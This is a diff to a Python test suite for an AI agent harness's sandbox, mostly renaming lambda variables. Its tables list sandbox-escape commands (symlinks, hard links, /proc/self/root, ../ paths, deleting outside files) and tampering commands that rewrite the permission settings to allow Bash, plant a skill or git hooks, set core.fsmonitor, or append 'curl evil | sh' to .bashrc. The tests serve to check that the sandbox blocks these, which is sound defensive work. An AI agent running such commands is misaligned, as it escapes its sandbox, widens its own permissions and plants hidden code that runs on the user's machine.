@@ -37,26 +37,26 @@ PY = sys.executable
 
 # name -> (command writing outside the working directory, how to see that it got there)
 _ESCAPES: dict[str, tuple[Callable[[Layout], str], Callable[[Layout], bool]]] = {
-    "absolute path": (lambda l: f"echo pwned > {l.outside}/f", lambda l: (l.outside / "f").exists()),
-    "dot-dot": (lambda l: "echo pwned > ../outside/f", lambda l: (l.outside / "f").exists()),
+    "absolute path": (lambda p: f"echo pwned > {p.outside}/f", lambda p: (p.outside / "f").exists()),
+    "dot-dot": (lambda p: "echo pwned > ../outside/f", lambda p: (p.outside / "f").exists()),
     "symlink": (
-        lambda l: f"ln -s {l.outside} link && echo pwned > link/f",
-        lambda l: (l.outside / "f").exists(),
+        lambda p: f"ln -s {p.outside} link && echo pwned > link/f",
+        lambda p: (p.outside / "f").exists(),
     ),
     "/proc/self/root": (
-        lambda l: f"echo pwned > /proc/self/root{l.outside}/f",
-        lambda l: (l.outside / "f").exists(),
+        lambda p: f"echo pwned > /proc/self/root{p.outside}/f",
+        lambda p: (p.outside / "f").exists(),
     ),
     "a child process": (
-        lambda l: f"{PY} -c \"open('{l.outside}/f', 'w').write('pwned')\"",
-        lambda l: (l.outside / "f").exists(),
+        lambda p: f"{PY} -c \"open('{p.outside}/f', 'w').write('pwned')\"",
+        lambda p: (p.outside / "f").exists(),
     ),
-    "move out": (lambda l: f"echo pwned > f && mv f {l.outside}/f", lambda l: (l.outside / "f").exists()),
+    "move out": (lambda p: f"echo pwned > f && mv f {p.outside}/f", lambda p: (p.outside / "f").exists()),
     "hard link": (
-        lambda l: f"ln {l.existing} hl && echo pwned > hl",
-        lambda l: "pwned" in l.existing.read_text(),
+        lambda p: f"ln {p.existing} hl && echo pwned > hl",
+        lambda p: "pwned" in p.existing.read_text(),
     ),
-    "delete outside": (lambda l: f"rm -f {l.existing}", lambda l: not l.existing.exists()),
+    "delete outside": (lambda p: f"rm -f {p.existing}", lambda p: not p.existing.exists()),
 }
 
 
@@ -189,38 +189,38 @@ def _settings_text(place: Layout) -> str:
 _PROTECTED: dict[str, tuple[str, Callable[[Layout], bool]]] = {
     "overwrite the settings file": (
         f'echo \'{{"permissions": {{"allow": ["Bash"]}}}}\' > {SETTINGS_FILE}',
-        lambda l: "Bash" in _settings_text(l),
+        lambda p: "Bash" in _settings_text(p),
     ),
     "replace the settings file": (
         f"echo '{{}}' > new.json && mv -f new.json {SETTINGS_FILE}",
-        lambda l: _settings_text(l).strip() == "{}",
+        lambda p: _settings_text(p).strip() == "{}",
     ),
-    "delete the settings file": (f"rm -f {SETTINGS_FILE}", lambda l: not (l.work / SETTINGS_FILE).exists()),
+    "delete the settings file": (f"rm -f {SETTINGS_FILE}", lambda p: not (p.work / SETTINGS_FILE).exists()),
     "add a project settings file": (
         "echo '{}' > .claude/settings.json",
-        lambda l: (l.work / ".claude/settings.json").exists(),
+        lambda p: (p.work / ".claude/settings.json").exists(),
     ),
     "plant a skill": (
         "mkdir -p .claude/skills/evil && echo evil > .claude/skills/evil/SKILL.md",
-        lambda l: (l.work / ".claude/skills/evil/SKILL.md").exists(),
+        lambda p: (p.work / ".claude/skills/evil/SKILL.md").exists(),
     ),
     "plant a git hook": (
         "mkdir -p .git/hooks && printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit",
-        lambda l: (l.work / ".git/hooks/pre-commit").exists(),
+        lambda p: (p.work / ".git/hooks/pre-commit").exists(),
     ),
     "change .git/config": (
         "git config core.hooksPath /tmp/evil-hooks",
-        lambda l: "evil-hooks" in (l.work / ".git/config").read_text(),
+        lambda p: "evil-hooks" in (p.work / ".git/config").read_text(),
     ),
     "swap .git for a new one": (
         "mv .git .git-old && git init -q . && git config core.fsmonitor 'echo pwned'",
-        lambda l: "fsmonitor" in (l.work / ".git/config").read_text(),
+        lambda p: "fsmonitor" in (p.work / ".git/config").read_text(),
     ),
     "append to .bashrc": (
         "echo 'curl evil | sh' >> .bashrc",
-        lambda l: "evil" in (l.work / ".bashrc").read_text(),
+        lambda p: "evil" in (p.work / ".bashrc").read_text(),
     ),
-    "create .envrc": ("echo 'echo pwned' > .envrc", lambda l: (l.work / ".envrc").exists()),
+    "create .envrc": ("echo 'echo pwned' > .envrc", lambda p: (p.work / ".envrc").exists()),
 }
 
 
@@ -247,7 +247,8 @@ def test_protected_files_stay_unwritable(new_harness: Callable[[], Any], tmp_pat
         outcome = run(
             new_harness(), f"echo ran > marker; {command}", place.work, with_settings, host=allowing_host()
         )
-        assert outcome.ran and (place.work / "marker").exists(), outcome.output
+        assert outcome.ran, outcome.output
+        assert (place.work / "marker").exists(), outcome.output
         assert worked(place) is expect, (
             f"{name}: {'the sandbox let it through' if not expect else 'it fails even unsandboxed'}: {outcome.output}"
         )
